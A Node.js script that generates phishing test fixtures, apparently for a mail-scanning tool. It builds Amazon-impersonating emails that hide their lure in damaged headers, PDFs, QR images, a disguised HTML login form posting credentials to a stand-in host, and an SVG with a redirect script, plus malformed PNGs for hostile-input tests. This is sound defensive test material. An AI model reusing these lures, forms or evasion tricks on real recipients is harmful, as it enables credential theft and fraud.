#!/usr/bin/env node
/**
 * Writes fixtures/payloads/: phishing whose payload is where a text check does not look (issue 21): damaged mail
 * (NUL bytes in the header, bare CR line ends), and later attachments (PDF, HTML/SVG by content, QR images,
 * attached messages). Several are binary, so they are made here rather than by hand. Deterministic: run it
 * again and git shows no change. The output is committed; tests never run this script.
 *
 *   node scripts/gen-payload-fixtures.mjs
 *
 * Every mail is a fake: hosts are under .example or lookalikes of Amazon's names, phone numbers are in
 * ranges no one is given (Japan 0120-000-xxx is not assigned in these fixtures' sense; US 555-01xx is fiction).
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { deflateSync } from 'node:zlib';
import QRCode from 'qrcode';
import pngjs from 'pngjs';
import jpeg from 'jpeg-js';
import omggif from 'omggif';
import { makePdf, withAttachments } from './fixture-mail.mjs';

const OUT = join(dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'payloads');
mkdirSync(OUT, { recursive: true });

const CRLF = '\r\n';

/** A mail as lines joined by `eol`, headers then a blank line then the body. */
function mail(headers, body, eol = CRLF) {
  return [...headers, '', ...body].join(eol) + eol;
}

const PHISH_HEADERS = [
  'From: "Amazon.co.jp" <account-update@amaz0n-secure.example>',
  'To: hanako.yamada@example.jp',
  'Subject: Amazon: action required on your account',
  'Date: Mon, 23 Nov 2026 10:00:00 +0900',
  'Message-ID: <payload-fixture@amaz0n-secure.example>',
  'MIME-Version: 1.0',
];

function write(name, content) {
  writeFileSync(join(OUT, name), content);
}

// ---- 5. Damaged mail ----

// NUL bytes inside header values and between fields: a reader that refuses them skips the mail entirely.
write(
  'nul-bytes-in-header-amazon-phish.eml',
  Buffer.from(
    mail(
      [
        'From: "Amazon\0" <account-update@amaz0n-secure.example>',
        'To: hanako.yamada@example.jp',
        'Subject: Amazon: your account is on hold\0\0',
        'Date: Mon, 23 Nov 2026 10:00:00 +0900',
        'X-Padding: \0\0\0\0',
        'Content-Type: text/plain; charset=utf-8',
      ],
      ['Your Amazon account has been locked.', 'Sign in to verify your account: https://amaz0n-secure.example/ap/signin', ''],
    ),
    'latin1',
  ),
);

// Classic Mac OS line ends: without reading bare CR as a line end, the whole mail is one header line.
write(
  'cr-only-line-ends-amazon-phish.eml',
  mail(
    [
      'From: "Amazon" <account-update@amaz0n-secure.example>',
      'To: hanako.yamada@example.jp',
      'Subject: Amazon: verify your account',
      'Date: Mon, 23 Nov 2026 10:00:00 +0900',
      'Content-Type: text/plain; charset=utf-8',
    ],
    ['Your Amazon account has been locked.', 'Sign in to verify your account: https://amaz0n-secure.example/ap/signin'],
    '\r',
  ),
);

// A binary file that starts like a header field: NULs throughout, no second field. Not mail.
write('binary-starting-like-a-field.bin', Buffer.concat([Buffer.from('Key: '), Buffer.alloc(64), Buffer.from('\n\n'), Buffer.alloc(64, 1)]));


// ---- Attachments ----

/** A sender with no Amazon in its name or address, and a subject without Amazon: all of it is in the attachment. */
const PLAIN_HEADERS = [
  'From: "Billing Department" <billing@invoice-center.example>',
  'To: hanako.yamada@example.jp',
  'Subject: Invoice #88213 - payment notice',
  'Date: Mon, 23 Nov 2026 10:00:00 +0900',
  'Message-ID: <payload-attachment@invoice-center.example>',
  'MIME-Version: 1.0',
];
const SEE_ATTACHED = ['Please see the attached document.', ''];

// 1. PDFs: the lure, the link and the phone number only inside the PDF.
const pdfLink = makePdf([
  {
    lines: ['Amazon Account Security', 'Your Amazon account has been suspended.', 'Sign in to verify your account within 24 hours:', 'https://amaz0n-secure.example/ap/signin'],
    links: [{ url: 'https://amaz0n-secure.example/ap/signin?ref=pdf', rect: [50, 650, 400, 700] }],
  },
]);
write('pdf-with-link-amazon-phish.eml', withAttachments(PLAIN_HEADERS, SEE_ATTACHED, [{ name: 'account-notice.pdf', type: 'application/pdf', bytes: pdfLink }]));

const pdfCallback = makePdf([
  { lines: ['Order confirmation'] },
  {
    lines: ['Your Amazon order #114-2938401-3381 of $499.99 has been placed.', 'If you did not make this purchase,', 'please call Amazon customer support at +1 (808) 555-0143 to cancel.'],
  },
]);
write('pdf-callback-number-amazon-phish.eml', withAttachments(PLAIN_HEADERS, SEE_ATTACHED, [{ name: 'invoice.pdf', type: 'application/pdf', bytes: pdfCallback }]));

// An encrypted PDF (a Standard security handler with an unknown password) and a truncated one.
const encrypted = Buffer.from(
  pdfLink.toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /U (bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb) /P -4 >> /ID [(0123456789abcdef) (0123456789abcdef)]'),
  'latin1',
);
const AMAZON_HEADERS = [
  'From: "Amazon.co.jp" <no-reply@amazon-support-center.example>',
  'To: hanako.yamada@example.jp',
  'Subject: Amazon: your invoice',
  'Date: Mon, 23 Nov 2026 10:00:00 +0900',
  'Message-ID: <payload-amazon@amazon-support-center.example>',
  'MIME-Version: 1.0',
];
write('pdf-encrypted-amazon-claim.eml', withAttachments(AMAZON_HEADERS, SEE_ATTACHED, [{ name: 'invoice.pdf', type: 'application/pdf', bytes: encrypted }]));
write('pdf-damaged-amazon-claim.eml', withAttachments(AMAZON_HEADERS, SEE_ATTACHED, [{ name: 'invoice.pdf', type: 'application/pdf', bytes: pdfLink.subarray(0, Math.floor(pdfLink.length / 2)) }]));

// 2. HTML and SVG by content.
const fakePage = Buffer.from(
  '<!DOCTYPE html><html><head><title>Amazon Sign-In</title></head><body><h1>Amazon</h1>' +
    '<form action="https://amaz0n-secure.example/collect" method="post"><input name="email"><input type="password" name="password">' +
    '<button>Sign in</button></form></body></html>',
);
write('html-page-declared-octet-stream.eml', withAttachments(PLAIN_HEADERS, SEE_ATTACHED, [{ name: 'Invoice_88213.pdf', type: 'application/octet-stream', bytes: fakePage }]));
const svg = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">' +
    '<text x="10" y="50">Your Amazon account is locked. Sign in to verify your account.</text><script>window.location.href = "https://amaz0n-secure.example/ap/signin?u=" + "hanako";</script></svg>',
);
write('svg-with-script-named-png.eml', withAttachments(PLAIN_HEADERS, SEE_ATTACHED, [{ name: 'receipt.png', type: 'image/png', bytes: svg }]));

// 3. QR codes: PNG (attached), JPEG (inline), GIF; the mail claims Amazon and is not authenticated.
const QR_URL = 'https://amaz0n-secure.example/verify?id=58213';
const matrix = QRCode.create(QR_URL, { errorCorrectionLevel: 'M' }).modules;
/** The QR matrix as RGBA pixels, `scale` pixels a module, a quiet zone of 4 modules. */
function qrPixels(scale) {
  const n = matrix.size;
  const side = (n + 8) * scale;
  const data = Buffer.alloc(side * side * 4, 255);
  for (let y = 0; y < n; y++)
    for (let x = 0; x < n; x++) {
      if (!matrix.get(y, x)) continue;
      for (let dy = 0; dy < scale; dy++)
        for (let dx = 0; dx < scale; dx++) {
          const at = (((y + 4) * scale + dy) * side + (x + 4) * scale + dx) * 4;
          data[at] = data[at + 1] = data[at + 2] = 0;
        }
    }
  return { data, width: side, height: side };
}
const px = qrPixels(4);
const png = new pngjs.PNG({ width: px.width, height: px.height });
px.data.copy(png.data);
const qrPng = pngjs.PNG.sync.write(png);
const qrJpeg = Buffer.from(jpeg.encode({ data: px.data, width: px.width, height: px.height }, 90).data);
const gifBuf = Buffer.alloc(px.width * px.height + 4096);
const gw = new omggif.GifWriter(gifBuf, px.width, px.height, { palette: [0x000000, 0xffffff] });
const indexed = new Uint8Array(px.width * px.height);
for (let i = 0; i < indexed.length; i++) indexed[i] = px.data[i * 4] === 0 ? 0 : 1;
gw.addFrame(0, 0, px.width, px.height, indexed);
const qrGif = gifBuf.subarray(0, gw.end());
const SCAN = ['Scan the QR code with your phone to verify your Amazon account.', ''];
write('qr-png-amazon-phish.eml', withAttachments(AMAZON_HEADERS, SCAN, [{ name: 'verify.png', type: 'image/png', bytes: qrPng }]));
write('qr-jpeg-amazon-phish.eml', withAttachments(AMAZON_HEADERS, SCAN, [{ name: 'verify.jpg', type: 'image/jpeg', bytes: qrJpeg, inline: true }]));
write('qr-gif-amazon-phish.eml', withAttachments(AMAZON_HEADERS, SCAN, [{ name: 'verify.gif', type: 'image/gif', bytes: qrGif }]));

// Images for the hostile suite (test/hostile/payloads.test.ts): the QR PNG cut short, a PNG that says it is
// 100,000 x 100,000 pixels, and a PNG whose one IDAT inflates far beyond what its header says.
const hostile = join(OUT, 'hostile');
mkdirSync(hostile, { recursive: true });
writeFileSync(join(hostile, 'qr-truncated.png'), qrPng.subarray(0, Math.floor(qrPng.length / 2)));
const huge = Buffer.from(qrPng);
huge.writeUInt32BE(100_000, 16);
huge.writeUInt32BE(100_000, 20);
writeFileSync(join(hostile, 'huge-dimensions.png'), huge);
writeFileSync(join(hostile, 'qr.png'), qrPng);
writeFileSync(join(hostile, 'qr.jpg'), qrJpeg);
writeFileSync(join(hostile, 'qr.gif'), qrGif);
